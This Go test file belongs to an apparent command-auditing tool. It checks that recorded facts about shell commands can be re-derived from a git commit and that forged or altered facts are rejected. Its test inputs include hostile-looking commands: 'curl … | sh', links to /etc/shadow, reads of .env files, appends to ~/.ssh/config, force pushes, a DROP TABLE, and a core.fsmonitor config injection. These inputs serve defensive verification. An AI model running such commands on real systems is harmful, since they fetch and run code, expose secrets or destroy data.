package committed

import (
	"bufio"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"ethos/pkg/capability"
	"ethos/pkg/facts"
	"ethos/pkg/gitrepo"
	"ethos/pkg/record"
	"ethos/pkg/shorttest"
)

// machine is where commands were recorded, and a clone of it elsewhere. What it was recorded in is gone.
type machine struct {
	workspace, home string
	deriver         *facts.Deriver
	clone           string
}

// newMachine has files, links and a configuration in the commit, files that git ignores beside it, and a repository with a remote and an alias.
func newMachine(t testing.TB, config string, o facts.Options) (*machine, func() *gitrepo.Revision) {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	m := &machine{workspace: dir + "/here/w", home: dir + "/here/home", clone: dir + "/there"}
	script := `umask 022; mkdir -p here/w/src/deep here/w/build here/home/.ssh here/beside && cd here/w && git init -qb topic
		echo package x >src/a.go; echo b >src/b.txt; echo b >src/deep/b.txt; ln -s a.go src/link; ln -s src latest; ln -s ../beside out; ln -s /etc/passwd users
		printf 'check:\n\techo ok\n' >Makefile; printf 'build/\n*.log\n' >.gitignore; printf '#!/bin/sh\necho ok\n' >run.sh; chmod +x run.sh; printf 'src/a.go\nsrc/b.txt\n' >names
		echo ok >build/gen.sh; ln -s /etc/shadow build/users; echo x >build/.env; echo x >.env.log
		` + config + `
		git add -A && git -c user.name=t -c user.email=t@example.invalid commit -qm one && git clone -q . ../../there
		git remote add origin /srv/x && git config alias.st status && git config alias.nuke '!rm -rf build'`
	cmd := exec.Command("sh", "-ec", script)
	cmd.Dir, cmd.Env = dir, append(os.Environ(), "HOME="+m.home, "GIT_CONFIG_NOSYSTEM=1")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	o.Home, o.Git, o.Programs = m.home, gitrepo.Options{Home: m.home}, []string{"/usr/bin"}
	if m.deriver, err = facts.New(o); err != nil {
		t.Fatal(err)
	}
	return m, func() *gitrepo.Revision {
		t.Helper()
		if err := os.Rename(dir+"/here", dir+"/gone"); err != nil {
			t.Fatal(err)
		}
		r, err := gitrepo.FindRevision(m.clone, "HEAD")
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
}

func (m *machine) record(t testing.TB, a record.Action, actor record.Actor) *record.Line {
	t.Helper()
	a.Cwd, a.Workspace = m.workspace, ""
	a, err := m.deriver.Place(a)
	if err != nil {
		t.Fatal(err)
	}
	f, err := m.deriver.Derive(a, actor)
	if err != nil {
		t.Fatal(err)
	}
	l := record.NewLine("a", time.Unix(0, 0), a, actor)
	if err := l.Set("facts", f); err != nil {
		t.Fatal(err)
	}
	return l
}

func check(l *record.Line, revision *gitrepo.Revision, m *machine) error {
	c, err := New(revision, m.workspace, m.home)
	if err != nil {
		return err
	}
	return c.Check(l)
}

func script(text string) record.Action { return record.Action{Kind: record.KindShell, Script: text} }

// corpus are the commands whose analysis testdata/commands states.
func corpus(t testing.TB) (list []string) {
	t.Helper()
	files, err := filepath.Glob("../../../testdata/commands/*.ndjson")
	if err != nil || len(files) == 0 {
		t.Fatal(files, err)
	}
	for _, name := range files {
		text, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		defer text.Close()
		for s := bufio.NewScanner(text); s.Scan(); {
			var row struct{ Command string }
			if err := json.Unmarshal(s.Bytes(), &row); err != nil {
				t.Fatal(err)
			}
			list = append(list, row.Command)
		}
	}
	return list
}

// gitCorpus are the git commands of testdata/commands/git.
func gitCorpus(t testing.TB) (list []string) {
	t.Helper()
	files, err := filepath.Glob("../../../testdata/commands/git/*.txt")
	if err != nil || len(files) == 0 {
		t.Fatal(files, err)
	}
	for _, name := range files {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(text)) {
			if _, command, ok := strings.Cut(line, " | "); ok && line[0] != '#' {
				list = append(list, strings.TrimSpace(command))
			}
		}
	}
	return list
}

// own are commands on the files of the machine.
var own = []string{
	"go test ./...", "./run.sh", "make check", "sh -c 'cat src/* latest/link >/dev/null'", "cat ~/.profile out/x users", "git status && git diff --exit-code", "xargs -a names rm",
	"cat build/users build/.env", "sh build/gen.sh", "rm -rf build *.log", "cat ./* */.env", "cp users out", "rm -r src/* && git checkout -- src", "cd src && rm link ../latest", "cd build && git status", "mkdir -p build/q && cd build/q && git init && git add .", "git -C build status && git -C src log", "git worktree add ../wt && git worktree remove ../wt",
	"echo x >>~/.ssh/config",
}

// depends reports whether the facts of a command depend on the branches, remotes or aliases of the repository.
func depends(command string) bool {
	words := strings.Fields(command)
	return slices.Contains(words, "git") && slices.ContainsFunc(words, func(w string) bool { return slices.Contains([]string{"push", "checkout", "st"}, w) })
}

// TestHonest: what was recorded of a command follows elsewhere from the commit alone.
func TestHonest(t *testing.T) {
	m, away := newMachine(t, ":", facts.Options{})
	commands := shorttest.Sample(slices.Concat(corpus(t), gitCorpus(t), own), 5)
	actors := []record.Actor{{}, {Agent: "claude", Mode: record.ModeAuto}, {Mode: record.ModeVerify, Parent: &record.Parent{Mode: record.ModeVerify}}}
	var lines []*record.Line
	for _, command := range commands {
		for _, actor := range actors {
			lines = append(lines, m.record(t, script(command), actor))
		}
	}
	lines = append(lines, m.record(t, record.Action{Kind: record.KindExec, Argv: []string{"go", "test", "./..."}}, record.Actor{}))
	revision, refused := away(), 0
	for i, l := range lines {
		err := check(l, revision, m)
		if err != nil && (i/len(actors) == len(commands) || !depends(commands[i/len(actors)])) {
			t.Errorf("%s: %v", commands[i/len(actors)], err)
		}
		if err != nil {
			refused++
		}
	}
	if t.Logf("%d of %d depend on the repository", refused, len(lines)); refused > len(lines)/100 || len(lines) < shorttest.Count(5000, 5) {
		t.Error("that is too many")
	}
}

// TestForged: the facts of another command are those of no command.
func TestForged(t *testing.T) {
	shorttest.Long(t)
	m, away := newMachine(t, ":", facts.Options{})
	commands := slices.Concat(corpus(t), gitCorpus(t), own)
	var lines []*record.Line
	for _, command := range commands {
		lines = append(lines, m.record(t, script(command), record.Actor{}))
	}
	revision := away()
	shellIn := func(l *record.Line) string {
		var f record.Facts
		if err := l.Decode("facts", &f); err != nil {
			t.Fatal(err)
		}
		text, err := json.Marshal(shellOf(unlinked(f.Shell)))
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}
	forged := 0
	for i, l := range lines {
		other := lines[(i+1)%len(lines)]
		if shellIn(l) == shellIn(other) {
			continue
		}
		var f record.Facts
		if err := other.Decode("facts", &f); err != nil {
			t.Fatal(err)
		}
		if err := l.Set("facts", f); err != nil {
			t.Fatal(err)
		}
		if forged++; !errors.Is(check(l, revision, m), ErrDiffer) {
			t.Errorf("%s: the facts of the next command are taken for its own", commands[i])
		}
	}
	if forged < len(lines)*9/10 {
		t.Errorf("%d of %d", forged, len(lines))
	}
}

// TestChanged: each fact that follows from the action and the commit is compared. What only the machine knew is the signer's word.
func TestChanged(t *testing.T) {
	type change struct {
		command string
		change  func(f *record.Facts)
		why     string // "" is accepted
	}
	m, away := newMachine(t, "printf 'git:\\n  protected_branches: [stable]\\n' >repo_config.yaml; ln -s /etc/shadow src/shadow; echo src/a.go >src/names", facts.Options{})
	reaches := func(f *record.Facts, mode string) {
		f.Capabilities.Network.Mode = mode
		f.Capabilities = capability.Derive(f.Capabilities)
	}
	changes := map[string]change{
		"nothing":        {"rm -rf src/* latest", func(*record.Facts) {}, ""},
		"a command":      {"rm -rf src && ls", func(f *record.Facts) { f.Shell.Commands = f.Shell.Commands[1:] }, "facts.shell"},
		"an argument":    {"rm -rf src", func(f *record.Facts) { *f.Shell.Commands[0].Argv[2] = "build" }, "facts.shell"},
		"a risk":         {"curl https://x.example | sh", func(f *record.Facts) { f.Shell.Risks = []string{} }, "facts.shell"},
		"a write":        {"echo x >src/a.go", func(f *record.Facts) { f.Shell.Writes = []record.PathUse{} }, "facts.shell"},
		"a file":         {"echo x >src/a.go", func(f *record.Facts) { f.Files = []record.File{} }, "facts.files: truncate src/a.go"},
		"a class":        {"echo x >Makefile", func(f *record.Facts) { f.Files[0].Protected = "ci" }, "facts.files: truncate Makefile"},
		"a link":         {"cat src/link", func(f *record.Facts) { f.Files[0].ViaSymlink = false }, "facts.files: read src/link"},
		"a link to":      {"cat src/link", func(f *record.Facts) { f.Files[0].Resolved += "x" }, "facts.files: read src/link"},
		"git":            {"git reset --hard", func(f *record.Facts) { f.Git = []record.Git{} }, "facts.git"},
		"a danger":       {"git push --force origin main", func(f *record.Facts) { f.Git[0].Dangers = []string{} }, "facts.git"},
		"ethos":          {"ethos-decide trust", func(f *record.Facts) { f.Ethos = nil }, "facts.ethos"},
		"a service":      {"psql -c 'drop table x'", func(f *record.Facts) { f.Services = nil }, "facts.services"},
		"the tool":       {"go test ./...", func(f *record.Facts) { f.Tool.ID = "go-vet" }, "facts.tool"},
		"the network":    {"go test ./...", func(f *record.Facts) { reaches(f, "host") }, "facts.capabilities.network.mode"},
		"a path":         {"go test ./...", func(f *record.Facts) { f.Capabilities.ReadPaths = []string{"~/notes"} }, "facts.capabilities.read_paths"},
		"narrower":       {"go test ./...", func(f *record.Facts) { reaches(f, "none") }, ""},
		"a lack":         {"x=$(date); $x", func(f *record.Facts) { f.Incomplete = []string{} }, "facts.incomplete"},
		"configuration":  {"ls", func(f *record.Facts) { f.Repo.Configuration[0].Digest += "0" }, "facts.repo.configuration"},
		"no such grant":  {"ls", func(f *record.Facts) { f.Capabilities.GrantedBy = []string{"--grant network=everywhere"} }, "everywhere"},
		"the branch":     {"ls", func(f *record.Facts) { f.Repo.Branch = "main" }, ""},
		"what is beside": {"cat build/users", func(f *record.Facts) { f.Files[0].Resolved = "/etc/passwd" }, ""},
		"a tag":          {"go test ./...", func(f *record.Facts) { f.Capabilities.Tags = []string{} }, "facts.capabilities"},
		"a source":       {"ls", func(f *record.Facts) { f.Capabilities.GrantedBy = []string{"repo_config.yaml:sandbox.network_tools"} }, "facts.capabilities.granted_by"},
		"approved":       {"ls", func(f *record.Facts) { f.Capabilities.GrantedBy = []string{"ethos-decide approve"} }, "facts.capabilities.granted_by"},
		"a protection":   {"ls", func(f *record.Facts) { f.Repo.ProtectedBranches = []string{} }, "facts.repo.protected_branches"},
		"a usual one":    {"ls", func(f *record.Facts) { f.Repo.ProtectedBranches = []string{"stable"} }, "facts.repo.protected_branches"},
		"its file":       {"ls", func(f *record.Facts) { f.Repo.Config = "" }, "facts.repo.config"},
		"a need":         {"ls", func(f *record.Facts) { f.Capabilities.RequiresGit = !f.Capabilities.RequiresGit }, "facts.capabilities"},
		"a profile":      {"ls", func(f *record.Facts) { f.Capabilities.SandboxProfile = "agent" }, "facts.capabilities.sandbox_profile"},
		"a refspec":      {"git push origin :stable", func(f *record.Facts) { f.Git[0].Refspecs, f.Git[0].BranchTargets = []record.Refspec{}, []string{} }, "facts.git"},
		"a remote":       {"git push https://x.example/y HEAD", func(f *record.Facts) { f.Git[0].Remote = "origin" }, "facts.git"},
		"a variable":     {"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./x git status", func(f *record.Facts) { f.Git[0].Config = []record.GitConfig{} }, "facts.git: config"},
		"its variable": {"git -c a.b=c status", func(f *record.Facts) {
			f.Git[0].Config = append(f.Git[0].Config, record.GitConfig{Key: "a.d", Via: "GIT_CONFIG_*"})
		}, ""},
		"one more": {"cat src/a.go", func(f *record.Facts) {
			f.Files = append(f.Files, f.Files[0])
			f.Files[1].Path = m.workspace + "/Makefile"
		}, "facts.files: read"},
		"a second":       {"cat src/a.go", func(f *record.Facts) { f.Files = append(f.Files, f.Files[0]); f.Files[1].Exists = false }, "facts.files: read src/a.go"},
		"in a link":      {"rm latest/*", func(f *record.Facts) { f.Files[0].ViaSymlink = false }, "facts.files: delete latest/*"},
		"matched":        {"cat latest/*", func(f *record.Facts) { f.Files = f.Files[:len(f.Files)-1] }, "facts.files: read"},
		"listed":         {"xargs -a latest/names rm -f", func(f *record.Facts) { f.Shell.Writes, f.Files = []record.PathUse{}, []record.File{} }, "facts.shell"},
		"a class beside": {"echo x >.git/hooks/pre-commit", func(f *record.Facts) { f.Files[0].Protected = "" }, "facts.files: truncate"},
		"no class":       {"echo x >.git/hooks/pre-commit", func(f *record.Facts) { f.Files[0].Protected = "none" }, "facts.files: truncate"},
		"a worse class":  {"echo x >build/x", func(f *record.Facts) { f.Files[0].Protected = "ethos-program" }, ""},
		"beside it": {"rm -r /srv/x", func(f *record.Facts) {
			f.Files[0].Resolved, f.Files[0].Outside, f.Shell.Writes[0].Outside = "/tmp/x", false, false
		}, "facts.files: delete /srv/x"},
		"by a link": {"rm -r /srv/x/y", func(f *record.Facts) {
			f.Files[0].ViaSymlink, f.Files[0].Resolved, f.Files[0].Outside, f.Shell.Writes[0].Outside = true, "/tmp/x", false, false
		}, ""},
		"a use":      {"rm -r /srv/x", func(f *record.Facts) { f.Shell.Writes[0].Outside = false }, "facts.shell: delete /srv/x"},
		"unresolved": {"cat ~nobody/x", func(f *record.Facts) { f.Incomplete = []string{} }, "facts.incomplete"},
		"a target":   {"git push origin $X", func(f *record.Facts) { f.Incomplete = []string{} }, "facts.incomplete"},
		"lost work":  {"git reset --hard", func(f *record.Facts) { f.Git[0].Loses = []string{"modified"} }, ""},
	}
	lines := map[string]*record.Line{}
	for name, c := range changes {
		l := m.record(t, script(c.command), record.Actor{})
		var f record.Facts
		if err := l.Decode("facts", &f); err != nil {
			t.Fatal(err)
		}
		before, _ := json.Marshal(f)
		c.change(&f)
		if after, _ := json.Marshal(f); string(before) == string(after) && name != "nothing" {
			t.Fatalf("%s: nothing was changed: %s", name, before)
		}
		if err := l.Set("facts", f); err != nil {
			t.Fatal(err)
		}
		lines[name] = l
	}
	revision := away()
	for name, c := range changes {
		if err := check(lines[name], revision, m); (err == nil) != (c.why == "") || err != nil && !strings.Contains(err.Error(), c.why) {
			t.Errorf("%s: %v, want %q", name, err, c.why)
		}
	}
}

// TestPlaces: a record names absolute directories.
func TestPlaces(t *testing.T) {
	m, away := newMachine(t, ":", facts.Options{})
	l := m.record(t, script("ls"), record.Actor{})
	revision := away()
	for _, place := range []string{"", ".", "w", "/w/", "/w/../w", "/" + strings.Repeat("w/", maxPath) + "w"} {
		if _, err := New(revision, place, ""); err == nil {
			t.Errorf("%.20q is a work space", place)
		}
		if _, err := New(revision, m.workspace, place); err == nil && place != "" {
			t.Errorf("%.20q is a home directory", place)
		}
	}
	for _, place := range [][2]string{{m.workspace, "/elsewhere"}, {"/elsewhere", m.workspace}, {m.workspace + "/src", m.workspace}, {m.workspace + "/.", m.workspace}} {
		elsewhere := record.NewLine("a", time.Unix(0, 0), record.Action{Kind: record.KindShell, Script: "ls", Cwd: place[0], Workspace: place[1]}, record.Actor{})
		var f record.Facts
		if err := errors.Join(l.Decode("facts", &f), elsewhere.Set("facts", f)); err != nil {
			t.Fatal(err)
		}
		if check(elsewhere, revision, m) == nil {
			t.Errorf("%q is its place", place)
		}
	}
	if err := check(l, revision, m); err != nil {
		t.Error(err)
	}
}

type everything struct{}

func (everything) Trusted(string, string) (bool, error) { return true, nil }

// TestSources: what a person has given or trusted is named in the facts, and counts elsewhere.
func TestSources(t *testing.T) {
	shorttest.Long(t)
	const config = `printf 'sandbox:
  network_tools:
    - {tool: go-test, allow_domains: [proxy.example.com]}
tools:
  - {id: check, category: test, match: [house check]}
' >repo_config.yaml`
	for name, o := range map[string]facts.Options{
		"trusted":   {Trust: everything{}},
		"untrusted": {},
		"a grant":   {Grants: []string{"timeout=30m", "read=~/notes"}},
		"a profile": {Profile: "agent-network"},
		"a tool":    {Tool: "node-packages"},
	} {
		t.Run(name, func(t *testing.T) {
			m, away := newMachine(t, config, o)
			lines := []*record.Line{m.record(t, script("go test ./..."), record.Actor{}), m.record(t, script("house check x"), record.Actor{Agent: "claude"})}
			revision := away()
			for _, l := range lines {
				if err := check(l, revision, m); err != nil {
					t.Error(err)
				}
				var f record.Facts
				if err := l.Decode("facts", &f); err != nil {
					t.Fatal(err)
				}
				if len(f.Capabilities.GrantedBy) > 0 { // the same without its source is more than the action has
					f.Capabilities.GrantedBy = []string{}
					f.Repo.Configuration = slices.Clone(f.Repo.Configuration)
					for i := range f.Repo.Configuration {
						f.Repo.Configuration[i].Trusted = false
					}
					if err := l.Set("facts", f); err != nil {
						t.Fatal(err)
					}
					if err := check(l, revision, m); !errors.Is(err, ErrDiffer) {
						t.Errorf("without a source: %v", err)
					}
				}
			}
		})
	}
}

// TestLacking: an object that the clone does not have is not a file that the commit does not have.
func TestLacking(t *testing.T) {
	m, away := newMachine(t, "printf 'git:\\n  protected_branches: [stable]\\n' >repo_config.yaml", facts.Options{})
	l := m.record(t, script("ls"), record.Actor{})
	revision := away()
	if err := check(l, revision, m); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("sh", "-ec", `cd "$0" && if ls .git/objects/pack/*.pack >p 2>&1; then mv .git/objects/pack/*.pack .git/ && git unpack-objects -q <$(ls .git/*.pack) && rm .git/objects/pack/*; fi
		o=$(git rev-parse HEAD:repo_config.yaml); rm -f .git/objects/${o%??????????????????????????????????????}/${o#??}`, m.clone)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	var f record.Facts
	if err := l.Decode("facts", &f); err != nil {
		t.Fatal(err)
	}
	f.Repo.Config, f.Repo.Configuration, f.Repo.ProtectedBranches = "", nil, []string{}
	forged := record.NewLine("a", time.Unix(0, 0), script("ls"), record.Actor{})
	if err := errors.Join(forged.Set("action", record.Action{Kind: record.KindShell, Script: "ls", Cwd: m.workspace, Workspace: m.workspace}), forged.Set("facts", f)); err != nil {
		t.Fatal(err)
	}
	for _, l := range []*record.Line{l, forged} {
		if err := check(l, revision, m); !errors.Is(err, ErrLacks) {
			t.Errorf("without the object: %v", err)
		}
	}
}

// TestOddTrees: a commit that no work tree is like has no facts.
func TestOddTrees(t *testing.T) {
	shorttest.Long(t)
	for name, tree := range map[string]string{
		"above":      `printf '100644 blob '$b'\t..\n'`,
		"git":        `printf '100644 blob '$b'\t.GIT\n'`,
		"twice":      `printf '100644 blob '$b'\ta\n100755 blob '$b'\ta\n'`,
		"both kinds": `printf '100644 blob '$b'\ta\n040000 tree '$(printf '100644 blob '$b'\tb\n' | git mktree)'\ta\n'`,
		"endless":    `t=$(git mktree </dev/null); for i in 1 2 3 4 5 6 7 8 9 10 11 12; do t=$(for j in 1 2 3 4 5 6 7 8 9; do printf '040000 tree '$t'\t'$j'\n'; done | git mktree); done; printf '040000 tree '$t'\td\n'`,
	} {
		dir := t.TempDir()
		cmd := exec.Command("sh", "-ec", `git init -q; b=$(echo x | git hash-object -w --stdin); t=$(`+tree+` | git mktree)
			git update-ref HEAD $(GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@x GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@x git commit-tree -m x $t)`)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v: %s", name, err, out)
		}
		revision, err := gitrepo.FindRevision(dir, "HEAD")
		if err != nil {
			t.Fatal(name, err)
		}
		if _, err := New(revision, "/w", ""); err == nil {
			t.Errorf("%s: taken", name)
		}
	}
}
